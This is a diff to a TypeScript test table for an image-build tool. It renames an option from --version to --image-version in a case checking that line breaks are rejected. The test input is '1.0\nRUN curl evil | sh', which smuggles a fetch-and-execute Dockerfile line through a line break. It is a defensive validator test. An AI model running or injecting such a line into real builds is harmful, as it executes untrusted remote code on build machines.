@@ -233,11 +233,11 @@ const tagRows: Row[] = [
     message: /Invalid tag "feature-x+…": 13\d characters, at most 128 are allowed \(built from the pattern "\{branch\}-\{name\}"/,
   },
   {
-    name: "refs: --version with a line break (it reaches a label as is)",
+    name: "refs: --image-version with a line break (it reaches a label as is)",
     files: {},
-    args: ["--version", "1.0\nRUN curl evil | sh"],
-    at: () => ["command line: --version"],
-    message: "The option --version contains a line break",
+    args: ["--image-version", "1.0\nRUN curl evil | sh"],
+    at: () => ["command line: --image-version"],
+    message: "The option --image-version contains a line break",
   },
   {
     name: "refs: --sha with a carriage return",
